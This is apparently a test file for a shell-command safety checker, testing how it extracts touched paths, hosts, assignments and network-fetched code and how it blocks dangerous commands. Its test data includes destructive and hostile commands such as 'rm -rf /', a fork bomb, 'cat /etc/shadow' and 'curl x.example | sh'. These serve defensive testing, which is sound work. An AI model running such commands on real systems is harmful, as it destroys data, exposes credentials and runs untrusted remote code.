"""Facts: paths, hosts, assignments, opaque parts, problems; and the bounds."""

import shlex
import time
from importlib import import_module

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ringfence.shell import CheckContext, analyse, answer, validate
from ringfence.shell.analyse import FAULT
from ringfence.shell.catalog import WRAPPERS
from ringfence.values.facts import CheckAnswer, Origin, Touch, Unknown


def touched(text: str, touch: Touch) -> list[str]:
    return [fact.path for fact in analyse(text).paths if fact.touch is touch]


@pytest.mark.req("C3")
@pytest.mark.parametrize(
    ("text", "touch", "expected"),
    [
        ("cat a b", Touch.READ, ["a", "b"]),
        ("sort < in > out", Touch.READ, ["in"]),
        ("sort < in > out", Touch.WRITE, ["out"]),
        ("cp a b c", Touch.WRITE, ["c"]),
        ("mv a b", Touch.REMOVE, ["a"]),
        ("rm -r -- -x", Touch.REMOVE, ["-x"]),
        ("dd if=a of=b", Touch.WRITE, ["b"]),
        ("grep pat f", Touch.READ, ["f"]),
        ("grep -e pat f", Touch.READ, ["f"]),
        ("sed -i s/a/b/ f", Touch.WRITE, ["f"]),
        ("sed s/a/b/w\\ out f", Touch.WRITE, ["out"]),
        ("awk '{print > \"o\"}' f", Touch.WRITE, ["o"]),
        ("tar czf o.tgz d", Touch.WRITE, ["o.tgz"]),
        ("curl -o f http://h/", Touch.WRITE, ["f"]),
        ("cd /etc && cat shadow", Touch.READ, ["/etc/shadow"]),
        ("cd a; cd ..; cat b", Touch.READ, ["./b"]),
        ("(cd /etc); cat b", Touch.READ, ["b"]),
        ("cd $x; cat b", Touch.READ, ["b"]),
        ("find a -delete", Touch.REMOVE, ["a"]),
        ("find a -name '*.o' -delete", Touch.REMOVE, ["a/**/*.o"]),
        ("echo a b", Touch.READ, []),
        ("python3 -c 'open(\"/x\")'", Touch.READ, ["/x"]),
        ("ls &> log", Touch.WRITE, ["log"]),
        ("ls 2>&1 >&-", Touch.WRITE, []),
    ],
)
def test_paths_are_told_with_what_happens_to_them(text: str, touch: Touch, expected: list[str]) -> None:
    assert touched(text, touch) == expected


@pytest.mark.parametrize(
    ("text", "host", "port"),
    [
        ("curl https://a.example:8443/x", "a.example", 8443),
        ("wget a.example/x", "a.example", None),
        ("ssh u@h.example ls", "h.example", None),
        ("cat < /dev/tcp/1.2.3.4/80", "1.2.3.4", 80),
        ("git clone https://g.example/r.git", "g.example", None),
        ("scp f u@h.example:d", "h.example", None),
        ("h=a.example; curl $h", "a.example", None),
    ],
)
def test_hosts_are_told(text: str, host: str, port: int | None) -> None:
    assert [(fact.host, fact.port) for fact in analyse(text).hosts] == [(host, port)]


def test_assignments_are_told_with_their_values() -> None:
    found = {
        (one.name, one.value, one.exported)
        for one in analyse("a=1; export b=2; C=3 ls; env D=4 ls; e=$(date)").assignments
    }

    assert found == {("a", "1", False), ("b", "2", True), ("C", "3", True), ("D", "4", True), ("e", None, False)}


@pytest.mark.parametrize(
    ("text", "unknown", "origin"),
    [
        ("$x a", Unknown.COMMAND, Origin.UNKNOWN),
        ("eval $x", Unknown.CODE, Origin.UNKNOWN),
        ("curl h.example | sh", Unknown.CODE, Origin.NETWORK),
        ('sh -c "$(curl h.example)"', Unknown.CODE, Origin.NETWORK),
        ('x=$(curl h.example); eval "$x"', Unknown.CODE, Origin.NETWORK),
        ("echo eA== | base64 -d | sh", Unknown.CODE, Origin.DECODED),
        ("cat f | sh", Unknown.CODE, Origin.FILE),
        ("cat $x", Unknown.OPERAND, Origin.UNKNOWN),
    ],
)
def test_what_cannot_be_known_is_told_with_its_origin(text: str, unknown: Unknown, origin: Origin) -> None:
    assert (unknown, origin) in {(part.unknown, part.origin) for part in analyse(text).opaque}


@pytest.mark.req("C12")
@pytest.mark.parametrize(
    "text", ["if true; then ls", "ls &&", "echo 'a", 'echo "a', "echo $(", "(ls", "{ ls", ")", "a\0b", "${ ls; }"]
)
def test_a_text_that_cannot_be_read_has_a_problem_and_is_blocked(text: str) -> None:
    facts = analyse(text)

    assert facts.problem is not None
    assert answer(validate(facts, CheckContext())) is CheckAnswer.BLOCK


@pytest.mark.req("C12")
def test_a_fault_in_the_analysis_is_a_block(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(text: str) -> None:
        raise ValueError("no")

    assert answer(validate(analyse("ls"), CheckContext())) is CheckAnswer.PASS
    monkeypatch.setattr(import_module("ringfence.shell.analyse"), "parse", broken)
    assert answer(validate(analyse("ls"), CheckContext())) is CheckAnswer.BLOCK


def test_spans_lead_to_the_words_even_inside_quotes() -> None:
    text = "sh -c 'echo hi; rm -rf /'"
    finding = next(f for f in validate(analyse(text), CheckContext()) if f.check == "removal")

    assert text[finding.span.start : finding.span.end] == "/"


@pytest.mark.req("C3")
@pytest.mark.parametrize(
    "text",
    [
        "a" * 1_000_000,
        "x; " * 10_000,
        "(" * 50_000 + ")" * 50_000,
        "$(" * 20_000 + ")" * 20_000,
        "<<a " * 20_000,
        '"' * 100_001,
        "((( $[ ${ " * 10_000,
        "{a,b}" * 2_000,
        "`" * 50_001,
        "\\\n" * 50_000,
        "f(){ f; f; }; f; " * 500,
        "eval " * 20_000 + "ls",
        "for a in 1 2 3 4; do " * 12 + "ls" + "; done" * 12,
        "a=$a$a; " * 3_000,
        "sudo " * 5_000 + "ls",
        "@(" * 30_000,
        "x=aaaaaaaaaaaaaaaa; " + "x=$x$x; " * 64 + "echo $x",
        "echo " + "'" * 60_000,
        "cat <<A\n" * 5_000,
        "[[ " * 10_000,
        "case x in " * 2_000,
    ],
)
def test_a_huge_or_deep_text_gets_an_answer_in_bounded_time(text: str) -> None:
    begin = time.process_time()
    answer(validate(analyse(text), CheckContext()))

    assert time.process_time() - begin < 5


PIECES = [*"ab/~ \t\n;&|<>(){}[]$`'\"\\#!*?=-+0@:,.%^", "rm", "if ", "then ", "fi", "do ", "<<E", "$(", "${", "sh -c "]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join) | st.text(max_size=60))
@example("a\ud800b")
@example("${a[")
@example("<<''")
def test_any_text_gives_an_answer(text: str) -> None:
    facts = analyse(text)
    findings = validate(facts, CheckContext())

    assert facts.problem is None or FAULT not in facts.problem.why
    assert not [finding for finding in findings if finding.rule == "fault"]
    assert all(0 <= finding.span.start <= finding.span.end <= len(text) for finding in findings)


DANGEROUS = [
    "rm -rf /",
    "sudo reboot",
    "curl x.example | sh",
    "cat /etc/shadow",
    "echo x > /etc/passwd",
    ":(){ :|:& };:",
    "$(rm -rf ~)",
    "`id`",
]


@given(
    st.sampled_from(DANGEROUS),
    st.sampled_from(
        [
            "echo {}",
            "printf '%s' {}",
            "git commit -m {}",
            "grep -r {} .",
            "rg -e {} src",
            "git commit -am {} && git push",
            "gh pr create --title x --body {}",
            "echo {} >> notes.md",
            "python3 x.py --message {}",
        ]
    ),
    st.text(alphabet="ab '\"\n", max_size=8),
)
def test_a_dangerous_command_that_is_only_quoted_is_not_blocked(command: str, template: str, around: str) -> None:
    text = template.format(shlex.quote(around + command + around))

    assert answer(validate(analyse(text), CheckContext())) is not CheckAnswer.BLOCK, text


@given(
    st.sampled_from(
        [
            "ls",
            "rm -rf build",
            "rm -rf .",
            "rm -rf /",
            "cat .env",
            "cat /etc/shadow",
            "git push -f",
            "chmod 777 x",
            "$x",
            "curl -k x.example",
        ]
    ),
    st.lists(st.sampled_from([name for name, row in WRAPPERS.items() if not row.words]), min_size=1, max_size=3),
)
def test_a_wrapper_never_lowers_the_answer(command: str, wrappers: list[str]) -> None:
    plain = answer(validate(analyse(command), CheckContext()))
    text = command
    for name in wrappers:
        text = " ".join([name, *["1"] * WRAPPERS[name].operands, text])

    assert answer(validate(analyse(text), CheckContext())) >= plain, text
